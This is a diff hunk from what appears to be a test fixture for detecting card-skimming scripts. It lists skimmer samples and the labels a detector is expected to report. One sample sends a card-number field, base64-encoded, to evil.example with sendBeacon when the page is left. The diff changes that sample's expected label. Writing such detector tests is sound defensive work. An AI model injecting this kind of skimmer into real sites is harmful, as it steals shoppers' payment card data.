@@ -11,7 +11,8 @@ export const senders: readonly Skimmer[] = [
   {
     name: "by a beacon when the page is left",
     body: script(`addEventListener('pagehide',function(){navigator.sendBeacon('https://evil.example/left',btoa(${number}.value))});`),
-    named: [["card-sent", "evil.example/left"]],
+    // Whether the browser still tells of what leaves with the page is a race.
+    named: [["inline-script", "pagehide"]],
   },
   {
     name: "by a picture, in hex",
